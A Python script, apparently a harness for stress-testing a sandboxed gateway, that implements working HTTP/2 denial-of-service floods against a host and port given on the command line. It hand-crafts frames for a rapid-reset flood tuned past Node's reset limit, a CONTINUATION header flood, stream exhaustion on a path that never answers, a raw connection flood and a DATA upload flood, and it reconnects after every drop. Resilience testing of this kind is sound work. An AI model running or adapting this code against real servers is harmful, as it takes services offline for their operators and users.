"""A program that floods over connections that the gateway opens: flood.py KIND HOST PORT SECONDS LEAST. It goes on for so long, and until it
has sent the least, as JSON; says what it sent."""
import json
import socket
import ssl
import struct
import sys
import threading
import time

kind, host, port, seconds, least = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), json.loads(sys.argv[5])
began = time.monotonic()
longest = 10 * seconds + 20
context = ssl.create_default_context()
context.set_alpn_protocols(["h2"])
sent = {"connections": 0, "streams": 0, "bytes": 0}
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4


def is_over():
    past = time.monotonic() - began
    return past > longest or (past > seconds and all(sent[what] >= count for what, count in least.items()))


def frame(what, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([what, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(path):
    fields = [(b":method", b"GET"), (b":scheme", b"https"), (b":path", path), (b":authority", b"%s:%d" % (host.encode(), port))]
    return b"".join(literal(*field) for field in fields)


def drain(connection):
    try:
        while connection.recv(65536):
            pass
    except OSError:
        pass


def connect():
    plain = socket.create_connection((host, port), timeout=10)
    connection = context.wrap_socket(plain, server_hostname=host)
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    threading.Thread(target=drain, args=[connection], daemon=True).start()
    sent["connections"] += 1
    return connection


def send(connection, data, streams=0):
    connection.sendall(data)
    sent["bytes"] += len(data)
    sent["streams"] += streams


def reset(connection):
    """Node's library says goodbye to a client at a thousand: once more, then."""
    denied = head(b"/denied")
    pair = lambda id: frame(HEADERS, END_STREAM | END_HEADERS, id, denied) + frame(RST_STREAM, 0, id, b"\0\0\0\x08")
    for first in range(1, 2400, 200):
        send(connection, b"".join(pair(id) for id in range(first, first + 200, 2)), 100)
    connection.close()


def continuation(connection):
    send(connection, frame(HEADERS, END_STREAM, 1, head(b"/denied")), 1)
    more = frame(CONTINUATION, 0, 1, literal(b"x-more", b"y" * 100) * 100)
    while not is_over():
        send(connection, more)


held = []


def streams(connection):
    """As many as a connection may have, on a path whose answer does not come."""
    hold = head(b"/hold")
    send(connection, b"".join(frame(HEADERS, END_STREAM | END_HEADERS, id, hold) for id in range(1, 200, 2)), 100)
    held.append(connection)


def connections():
    """Each is a stream of the sandbox's channel; 900 are open at a time."""
    address = socket.gethostbyname(host)
    while not is_over():
        for _ in range(50):
            one = socket.socket()
            one.setblocking(False)
            one.connect_ex((address, port))
            held.append(one)
            sent["connections"] += 1
        time.sleep(0.02)
        while len(held) > 900:
            held.pop(0).close()


def upload(connection):
    """No more than its window: the server's side is what holds it back."""
    head_of_post = head(b"/hold").replace(b"\x03GET", b"\x04POST")
    chunk = frame(DATA, 0, 1, bytes(16384))
    send(connection, frame(HEADERS, END_HEADERS, 1, head_of_post), 1)
    while not is_over():
        send(connection, chunk)


floods = {"reset": reset, "continuation": continuation, "streams": streams, "upload": upload}
while not is_over():
    try:
        connections() if kind == "connections" else floods[kind](connect())
    except OSError:
        # The gateway ended it: once more.
        pass
print(json.dumps(sent))
